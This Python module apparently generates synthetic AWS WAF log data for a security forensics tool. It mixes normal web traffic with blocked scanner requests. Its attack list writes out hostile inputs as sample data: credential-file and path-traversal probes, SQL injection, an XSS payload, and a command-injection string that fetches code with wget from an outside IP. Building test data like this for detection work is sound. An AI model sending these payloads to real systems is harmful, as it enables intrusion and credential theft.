"""AWS WAFv2 logs background: traffic to the org's web ACLs (``org.web_acls``), as ``waf_2_0`` rows.

Browsers and mobile apps are allowed by the default action; scanners (sqlmap, nikto, zgrab,
masscan, …) probing ``/wp-login.php``, ``/.env``, path traversal and SQL injection are blocked by
AWS managed rule groups; a login-flooding client now and then trips the rate-based rule.
Vocabulary (reference §1.3): activity from the HTTP method (Get 3, Post 6, …; type_uid 4002xx),
``action``/``disposition`` Allowed/Blocked with ids, ``firewall_rule.*`` from the terminating rule.
"""
from __future__ import annotations

import hashlib

import numpy as np
import pyarrow as pa

from slake_forensics.core.catalog import SOURCES
from slake_forensics.sample.common import (class_columns, diurnal_times, observables, partition_columns, pick, pick_or_null, repeat,
                      same_list, uuids)
from slake_forensics.sample.org import HOME_ISP_NETS, HOSTING_NETS, Org
from slake_forensics.sample.writer import build_table, list_of_structs
from slake_forensics.sample.sources.vpc_flow import random_public_ips

SOURCE = SOURCES["waf"]
ROWS_PER_DAY = 3_200
METHODS = {"GET": 3, "POST": 6, "HEAD": 4, "PUT": 7, "OPTIONS": 5, "DELETE": 2}
BROWSER_UA = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
              "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
              "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
              "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
              "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
              "okhttp/4.12.0", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")
BROWSER_UA_W = np.array([30, 18, 16, 6, 14, 10, 6], dtype=float)
SCANNER_UA = ("sqlmap/1.8.4#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
              "Mozilla/5.0 zgrab/0.x", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "python-requests/2.31.0",
              "curl/8.4.0", "Go-http-client/1.1", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0.4430.85 Safari/537.36")
COUNTRIES = ("US", "US", "US", "GB", "DE", "FR", "CA", "IN", "BR", "AU", "NL", "JP", "ES", "SE", "PL")
SCANNER_COUNTRIES = ("US", "NL", "DE", "RU", "CN", "SG", "FR", "RO", "UA", "VN", "BR", "IN")

#: allowed requests: (method, path, args, status, weight)
NORMAL = (("GET", "/", "", 200, 12), ("GET", "/static/js/app.4f9c2a.js", "", 200, 8), ("GET", "/static/css/main.9b1e.css", "", 304, 6),
          ("GET", "/api/v1/products", "page=2&limit=24", 200, 9), ("GET", "/api/v1/orders", "status=open", 200, 6),
          ("POST", "/api/v1/orders", "", 201, 3), ("POST", "/api/v1/login", "", 200, 3), ("GET", "/login", "", 200, 3),
          ("GET", "/favicon.ico", "", 200, 4), ("GET", "/images/hero.webp", "", 200, 5), ("GET", "/api/v1/cart", "", 200, 4),
          ("PUT", "/api/v1/cart/items", "", 200, 2), ("OPTIONS", "/api/v1/cart/items", "", 204, 1.5), ("GET", "/health", "", 200, 2),
          ("GET", "/robots.txt", "", 200, 0.6), ("GET", "/api/v1/products/not-a-product", "", 404, 0.8), ("DELETE", "/api/v1/cart/items/3", "", 204, 0.5),
          ("HEAD", "/", "", 200, 0.5), ("POST", "/api/v1/login", "", 401, 0.6))
#: blocked requests: (method, path, args, rule group, match location, condition, matched data, label, weight)
ATTACKS = (
    ("GET", "/wp-login.php", "", "AWS-AWSManagedRulesWordPressRuleSet", "URI", "REGEX", "wp-login.php", "awswaf:managed:aws:wordpress-app:WordPressExploitableCommands_QUERYSTRING", 8),
    ("GET", "/.env", "", "AWS-AWSManagedRulesKnownBadInputsRuleSet", "URI", "REGEX", ".env", "awswaf:managed:aws:known-bad-inputs:ExploitablePaths_URIPATH", 9),
    ("GET", "/.aws/credentials", "", "AWS-AWSManagedRulesKnownBadInputsRuleSet", "URI", "REGEX", ".aws/credentials", "awswaf:managed:aws:known-bad-inputs:ExploitablePaths_URIPATH", 4),
    ("GET", "/.git/config", "", "AWS-AWSManagedRulesKnownBadInputsRuleSet", "URI", "REGEX", ".git", "awswaf:managed:aws:known-bad-inputs:ExploitablePaths_URIPATH", 5),
    ("GET", "/static/../../../../etc/passwd", "", "AWS-AWSManagedRulesCommonRuleSet", "URI", "REGEX", "../../", "awswaf:managed:aws:core-rule-set:GenericLFI_URIPATH", 5),
    ("GET", "/download", "file=../../../../etc/passwd", "AWS-AWSManagedRulesCommonRuleSet", "QUERY_STRING", "REGEX", "../../../../etc/passwd", "awswaf:managed:aws:core-rule-set:GenericLFI_QueryArguments", 4),
    ("GET", "/api/v1/products", "id=1%27%20OR%20%271%27%3D%271", "AWS-AWSManagedRulesSQLiRuleSet", "QUERY_STRING", "SQL_INJECTION", "1' OR '1'='1", "awswaf:managed:aws:sql-database:SQLi_QueryArguments", 6),
    ("GET", "/api/v1/orders", "sort=id%20UNION%20SELECT%20username,password%20FROM%20users--", "AWS-AWSManagedRulesSQLiRuleSet", "QUERY_STRING", "SQL_INJECTION", "UNION SELECT", "awswaf:managed:aws:sql-database:SQLi_QueryArguments", 4),
    ("POST", "/xmlrpc.php", "", "AWS-AWSManagedRulesWordPressRuleSet", "URI", "REGEX", "xmlrpc.php", "awswaf:managed:aws:wordpress-app:WordPressExploitableCommands_QUERYSTRING", 3),
    ("GET", "/phpmyadmin/index.php", "", "AWS-AWSManagedRulesPHPRuleSet", "URI", "REGEX", "phpmyadmin", "awswaf:managed:aws:php-app:PHPHighRiskMethodsVariables_URIPATH", 3),
    ("GET", "/cgi-bin/luci/;stok=/locale", "form=country&operation=write&country=$(id>`wget -O- http://45.77.1.9/t`)", "AWS-AWSManagedRulesKnownBadInputsRuleSet", "QUERY_STRING", "REGEX", "$(id", "awswaf:managed:aws:known-bad-inputs:Host_localhost_HEADER", 2),
    ("GET", "/search", "q=%3Cscript%3Ealert(1)%3C/script%3E", "AWS-AWSManagedRulesCommonRuleSet", "QUERY_STRING", "XSS", "<script>alert(1)</script>", "awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments", 3),
)
RATE_RULE = "rate-limit-login"


def acl_arn(account: str, region: str, name: str) -> str:
    """The (stable, made-up) ARN of a regional web ACL."""
    h = hashlib.sha256(f"{account}|{region}|{name}".encode()).hexdigest()
    return f"arn:aws:wafv2:{region}:{account}:regional/webacl/{name}/{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:32]}"


def background(org: Org, rng: np.random.Generator, scale: float) -> pa.Table:
    """A ``waf_2_0`` table of requests to the org's web ACLs over the whole period (about 3.2k rows a day at scale 1)."""
    acls = org.web_acls
    n = int(rng.poisson(ROWS_PER_DAY * org.days * scale * len(acls) / 2)) if acls else 0
    t = diurnal_times(org, rng, n, peak_hour_utc=16, flatness=0.35)
    acl = rng.integers(0, len(acls), n) if acls else np.zeros(0, dtype="int64")
    kind = rng.choice(3, n, p=[0.82, 0.15, 0.03])  # 0 normal, 1 scanner, 2 rate-limited
    normal, attack, rate = kind == 0, kind == 1, kind == 2

    nw = np.array([r[4] for r in NORMAL], dtype=float)
    aw = np.array([r[8] for r in ATTACKS], dtype=float)
    req = np.where(normal, rng.choice(len(NORMAL), n, p=nw / nw.sum()), 0)
    att = rng.choice(len(ATTACKS), n, p=aw / aw.sum())
    # request table: NORMAL rows, then ATTACKS rows, then the login flood
    table = [(m, p, a, s) for m, p, a, s, _ in NORMAL] + [(a[0], a[1], a[2], 403) for a in ATTACKS] + [("POST", "/api/v1/login", "", 403)]
    row = np.where(normal, req, np.where(attack, len(NORMAL) + att, len(table) - 1))
    method = [r[0] for r in table]
    activity = np.array([METHODS[m] for m in method])[row]

    clients = np.concatenate([random_public_ips(rng, 9_000, HOME_ISP_NETS), random_public_ips(rng, 6_000)])
    scanners = np.concatenate([random_public_ips(rng, 500, HOSTING_NETS), random_public_ips(rng, 400)])
    flooders = random_public_ips(rng, 6, HOSTING_NETS)
    ips = list(clients) + list(scanners) + list(flooders)
    ip = np.where(normal, np.minimum((rng.pareto(1.1, n) * 400).astype("int64"), len(clients) - 1),
                  np.where(attack, len(clients) + np.minimum((rng.pareto(0.8, n) * 20).astype("int64"), len(scanners) - 1),
                           len(clients) + len(scanners) + rng.integers(0, len(flooders), n)))
    ip_country = np.concatenate([np.array(COUNTRIES)[rng.integers(0, len(COUNTRIES), len(clients))],
                                 np.array(SCANNER_COUNTRIES)[rng.integers(0, len(SCANNER_COUNTRIES), len(scanners) + len(flooders))]])
    uas = list(BROWSER_UA) + list(SCANNER_UA)
    ua = np.where(normal, rng.choice(len(BROWSER_UA), n, p=BROWSER_UA_W / BROWSER_UA_W.sum()),
                  np.where(attack, len(BROWSER_UA) + rng.integers(0, len(SCANNER_UA), n), len(BROWSER_UA) + 4))

    blocked = ~normal
    rules = ["Default_Action"] + [a[3] for a in ATTACKS] + [RATE_RULE]
    rule = np.where(normal, 0, np.where(attack, 1 + att, len(rules) - 1))
    accounts, regions = [a[0] for a in acls], [a[1] for a in acls]
    hosts = [a[3] for a in acls]
    arns = [acl_arn(a[0], a[1], a[2]) for a in acls]
    albs = [f"{a[0]}-app/{a[2]}-alb/{hashlib.sha256(a[2].encode()).hexdigest()[:16]}" for a in acls]

    cols = class_columns(4002, activity, 1)
    ua_vals = pick(uas, ua)
    host_vals = pick(hosts, acl)
    hdr_off = np.arange(0, 3 * n + 1, 3)
    hdr_val = pa.concat_arrays([host_vals, ua_vals, pick(["text/html,application/xhtml+xml,*/*;q=0.8", "application/json", "*/*"], rng.integers(0, 3, n))])
    order = (np.arange(3 * n).reshape(n, 3) % 3 * n + np.arange(n)[:, None]).ravel()
    xff = rng.random(n) < 0.12
    xff_off = np.concatenate([[0], np.cumsum(xff)])
    args = [r[2] for r in table]
    att_matched = [a[6] for a in ATTACKS]
    cols.update({
        "metadata.product.name": repeat("AWS WAF", n), "metadata.product.vendor_name": repeat("AWS", n),
        "metadata.product.version": repeat("1", n), "metadata.product.feature.uid": pick(arns, acl),
        "metadata.profiles": same_list(["cloud", "datetime"], n),
        "metadata.labels": pa.ListArray.from_arrays(pa.array(np.concatenate([[0], np.cumsum(attack)]), pa.int32()),
                                                    pick([a[7] for a in ATTACKS], att[attack])),
        "src_endpoint.svc_name": repeat("ALB", n), "src_endpoint.uid": pick(albs, acl), "src_endpoint.ip": pick(ips, ip),
        "src_endpoint.location.country": pick(list(ip_country), ip),
        "http_request.url.path": pick([r[1] for r in table], row), "http_request.url.hostname": host_vals,
        "http_request.version": pick(["HTTP/1.1", "HTTP/2.0"], (rng.random(n) < 0.6).astype("int64") * normal),
        "http_request.http_method": pick(method, row), "http_request.uid": uuids(rng, n),
        "http_request.args": pick_or_null(args, row, np.array([bool(a) for a in args])[row]),
        "http_request.http_headers": list_of_structs(hdr_off, {"name": pick(["Host", "User-Agent", "Accept"], np.tile([0, 1, 2], n)),
                                                               "value": hdr_val.take(pa.array(order))}, SOURCE.schema.field("http_request").type.field("http_headers").type),
        "http_request.user_agent": ua_vals,
        "http_request.x_forwarded_for": pa.ListArray.from_arrays(pa.array(xff_off, pa.int32()), pick(list(clients), rng.integers(0, len(clients), int(xff.sum())))),
        "http_request.referrer": pick_or_null([f"https://{h}/" for h in hosts], acl, normal & (rng.random(n) < 0.5)),
        "firewall_rule.uid": pick(rules, rule),
        "firewall_rule.type": pick(["REGULAR", "MANAGED_RULE_GROUP", "RATE_BASED"], kind),
        "firewall_rule.condition": pick_or_null([a[5] for a in ATTACKS], att, attack),
        "firewall_rule.match_location": pick_or_null([a[4] for a in ATTACKS], att, attack),
        "firewall_rule.match_details": pa.ListArray.from_arrays(pa.array(np.concatenate([[0], np.cumsum(attack)]), pa.int32()), pick(att_matched, att[attack])),
        "firewall_rule.rate_limit": pa.array(np.where(rate, 100, 0).astype("int32"), pa.int32(), mask=~rate),
        "http_status": np.array([r[3] for r in table], dtype="int32")[row],
        "time": t, "time_dt": t, "cloud.provider": repeat("AWS", n),
        "action": pick(["Allowed", "Denied"], blocked.astype("int64")), "action_id": np.where(blocked, 2, 1).astype("int32"),
        "disposition": pick(["Allowed", "Blocked"], blocked.astype("int64")), "disposition_id": np.where(blocked, 2, 1).astype("int32"),
        "observables": observables(np.arange(0, n + 1), pick(["src_endpoint.ip"], np.zeros(n, dtype="int64")), pick(ips, ip),
                                   np.full(n, 2), SOURCE.schema.field("observables").type),
    })
    cols.update(partition_columns(pick(accounts, acl), pick(regions, acl)))
    return build_table(SOURCE, cols, n)
